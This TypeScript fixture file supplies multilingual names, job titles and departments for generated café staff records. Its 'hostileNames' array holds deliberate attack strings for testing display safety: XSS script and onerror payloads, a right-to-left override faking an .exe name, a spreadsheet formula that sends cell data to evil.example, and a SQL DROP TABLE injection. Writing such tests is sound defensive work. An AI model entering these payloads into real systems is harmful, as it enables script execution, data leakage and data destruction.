// Names for generated people, and the ones that put a screen to the test.

export const givenNames = [
  'Ada Adele Aisha Akira Aleksandra Amir Ana Anders Anika Antoine Astrid Aylin Beatriz Benedikt Bianca Björn Caio',
  'Camille Carlos Catarina Chiara Cillian Clara Daan Daniela Darius Diego Dilan Eero Eleni Elif Emeka Emre Esther',
  'Fatima Felix Femke Fiona Florian Freya Gabriel Giulia Greta Grigori Hana Hanneke Hélène Henrik Hugo Ibrahim Ines',
  'Ioana Isabel Ivan Jakub Jasmin João Johan Jonas Juan Julia Kaisa Kamil Karim Katja Kenji Kofi Lars Laura Layla',
  'Leila Leon Liam Linh Lucía Luka Magnus Maja Malik Marek Margaux Maria Marta Mateo Matilde Mei Mikael Milan Mina',
  'Nadia Naomi Nina Noor Olga Oliver Oskar Pablo Paula Petra Pilar Rafael Rania Rosa Ruben Ruth Sami Sara Selin',
  'Sigrid Simone Sofie Stefan Tara Theo Tiago Tomasz Tove Valentina Victor Wei Yara Yasmin Yuki Zara Zeynep Zofia',
].flatMap((line) => line.split(' '))

export const surnames = [
  'Abara Adeyemi Ahmed Alvarez Andersen Baker Bauer Bergström Bianchi Brandt Byrne Carvalho Castro Cohen Costa',
  'Dahl Demir Diallo Dubois Duarte Eriksson Farah Fernández Ferrari Fischer Fontaine Fuchs Garcia Gómez Grant Gupta',
  'Hansen Hartmann Hassan Hoffmann Horvat Ito Ivanova Jansen Jensen Johansson Kaya Keller Khan Kim Klein Koch',
  'Kowalczyk Kumar Lambert Larsen Lehtinen López Lund Maier Martin Mehta Mensah Meyer Mori Müller Murphy Nagy Navarro',
  'Nguyen Nilsen Novák Nowak Okafor Oliveira Olsen Ortiz Osei Park Patel Pereira Petrov Popescu Ramos Reis Ricci',
  'Rossi Roux Santos Sato Schmidt Silva Singh Sokolov Suzuki Tanaka Torres Tran Varga Vega Virtanen Wagner Walsh',
  'Weber Wójcik Yamada Yılmaz Young Zhang Ziegler',
].flatMap((line) => line.split(' '))

/** One name in each of a dozen scripts; the sign-in name stays Latin, as it does in Entra. */
export const namesInManyScripts: [signInName: string, given: string, surname: string][] = [
  ['dmytro.shevchenko', 'Дмитро', 'Шевченко'],
  ['eleni.papadopoulou', 'Ελένη', 'Παπαδοπούλου'],
  ['layla.haddad', 'ليلى', 'حداد'],
  ['noa.cohen', 'נועה', 'כהן'],
  ['ananya.sharma', 'अनन्या', 'शर्मा'],
  ['xiuying.wang', '秀英', '王'],
  ['sakura.tanaka', 'さくら', 'タナカ'],
  ['minjun.kim', '민준', '김'],
  ['somchai.jaidee', 'สมชาย', 'ใจดี'],
  ['nino.beridze', 'ნინო', 'ბერიძე'],
  ['aram.petrosyan', 'Արամ', 'Պետրոսյան'],
  ['selam.tesfaye', 'ሰላም', 'ተስፋዬ'],
  ['tamil.selvi', 'தமிழ்', 'செல்வி'],
]

/** Names that attack the page, the spreadsheet or the eye of whoever shows them without care. */
export const hostileNames: [signInName: string, displayName: string][] = [
  ['mallory.script', '<script>alert("mallory")</script>'],
  ['mallory.image', '"><img src=x onerror=alert(1)> O’Hara & Söhne'],
  ['mallory.override', 'Mallory \u202Egpj.exe'],
  ['mallory.formula', '=HYPERLINK("https://evil.example/?"&A1,"Click me")'],
  ['mallory.long', 'Wolfeschlegelsteinhausenbergerdorff '.repeat(6).slice(0, 200)],
  ['mallory.quotes', `Robert'); DROP TABLE staff;-- "$filter" %00 \\`],
  ['zoe.emoji', 'Zoë 👩🏽‍🍳🧁 Crème'],
]

export const jobTitles = [
  'Barista',
  'Senior barista',
  'Shift lead',
  'Cashier',
  'Baker',
  'Dishwasher',
  'Runner',
  'Trainee',
]

export const departments = ['Front of house', 'Kitchen', 'Stock room', 'Deliveries', 'Night shift']
